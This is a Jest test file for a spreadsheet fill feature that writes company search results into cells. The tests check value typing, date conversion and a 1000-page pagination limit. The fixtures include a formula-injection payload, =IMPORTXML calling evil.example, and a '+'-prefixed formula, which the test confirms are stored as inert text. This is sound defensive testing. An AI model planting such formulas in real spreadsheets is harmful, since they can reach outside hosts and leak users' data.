import { describe, expect, test } from "@jest/globals";
import { dataOf, jobWorld } from "../jobs/job-document";
import { openFillDocument } from "./fill-document";

const world = jobWorld();

interface MadePage {
  companies: Record<string, unknown>[];
  totalPages: number;
  totalCompanies: number;
}

/** A service that answers with made companies; gives the pages it was asked for. */
function answerWith(pageOf: (page: number) => MadePage): number[] {
  const asked: number[] = [];
  world.service.fetch = async (request) => {
    if (!request.url.endsWith("search-company")) return world.fetchOfService(request);
    const { page } = JSON.parse(await request.text());
    asked.push(page);
    const { companies, totalPages, totalCompanies } = pageOf(page);
    const pagination = { current_page: page, per_page: 25, total_page: totalPages, total_count: totalCompanies };
    return Response.json({ error: false, free: false, results: companies.map((company) => ({ company })), pagination });
  };
  return asked;
}

/** Days since 30 December 1899, as every spreadsheet counts them. */
const serial = (...date: [number, number, number, number?, number?]): number =>
  (Date.UTC(...date) - Date.UTC(1899, 11, 30)) / (24 * 60 * 60 * 1_000);

describe("cells of companies", () => {
  const KINDS: [kind: string, given: unknown, held: unknown][] = [
    ["a number", 1999, 1999],
    ["a fraction", -0.125, -0.125],
    ["a truth", true, true],
    ["funding_date", "2024-02-29", serial(2024, 1, 29)],
    ["updated_at", "2024-02-29T12:30:00Z", serial(2024, 1, 29, 12, 30)],
    ["founded_on", "2024-02-29 12:30:00+00:00", serial(2024, 1, 29, 12, 30)],
    ["end_date", "2024-02-30", "2024-02-30"],
    ["name", "2024-02-29", "2024-02-29"],
    ["a slogan", "2024-02-29 12:30:00", "2024-02-29 12:30:00"],
    ["a link", "https://www.acme.example/about?x=1", "https://www.acme.example/about?x=1"],
    ["a formula", '=IMPORTXML("https://evil.example","//a")', '=IMPORTXML("https://evil.example","//a")'],
    ["a sign before a formula", "+SUM(1,1)", "+SUM(1,1)"],
    ["an apostrophe", "'tis", "'tis"],
    ["a range", "11-50", "11-50"],
    ["a fraction in words", "1/2", "1/2"],
    ["leading zeros", "00123", "00123"],
    ["a telephone number", "+49 30 1234567", "+49 30 1234567"],
    ["a word for truth", "TRUE", "TRUE"],
    ["an amount", "10 €", "10 €"],
    ["an error", "#N/A", "#N/A"],
    ["an error of references", "#REF!", "#REF!"],
    ["a month and a day", "MAY26", "MAY26"],
    ["a time that is not UTC", "2024-02-29T12:30:00+02:00", "2024-02-29T12:30:00+02:00"],
    ["a list", ["a", "b"], "a; b"],
    ["nothing", null, null],
    ["too much", "x".repeat(60_000), "x".repeat(49_999)],
  ];

  test("are numbers, booleans and the dates of date fields as such, links as text, and everything else harmless text", async () => {
    const company = Object.fromEntries(KINDS.map(([kind, given]) => [kind, given]));
    answerWith(() => ({ companies: [{ ...company, id: "1" }], totalPages: 1, totalCompanies: 1 }));
    const { fill, document } = openFillDocument(world);
    expect((await fill({ columns: KINDS.map(([kind]) => kind) })).written).toMatchObject({ rows: 1 });
    const sheetId = document.workbook.sheets()[1]?.sheetId ?? -1;
    const [cells = []] = document.workbook.read(sheetId, { row: 2, column: 1, rows: 1, columns: KINDS.length + 1 });
    // The hidden column.
    cells.splice(2, 1);
    const held = cells.map(({ value, formula }, i) => [KINDS[i]?.[0], formula ?? value]);
    expect(held).toEqual(KINDS.map(([kind, , value]) => [kind, value]));
    const [day, time] = [3, 4].map((index) => cells[index]?.numberFormat);
    expect(day).toMatch(/d/);
    expect(time).toMatch(/h/);
  });
});

describe("a search with more than 1000 pages", () => {
  test("is filled from page 1 to 1000: the service is never asked for another @slow", async () => {
    const asked = answerWith((page) => ({
      companies: [{ id: page, name: `Company ${page}` }],
      totalPages: 1_004,
      totalCompanies: 25_100,
    }));
    const document = openFillDocument(world);
    const preview = dataOf(await document.call("previewSearch", { company_type: "Public" }));
    expect(preview).toMatchObject({ totals: { companies: 25_100, pages: 1_000 } });
    asked.length = 0;
    const end = await document.fill({ pages: null, columns: ["name"] });
    expect(end).toMatchObject({ state: "finished", written: { pages: 1_000, pagesWanted: 1_000, rows: 1_000 } });
    expect(asked.sort((a, b) => a - b)).toEqual(Array.from({ length: 1_000 }, (_, i) => i + 1));
  });
});
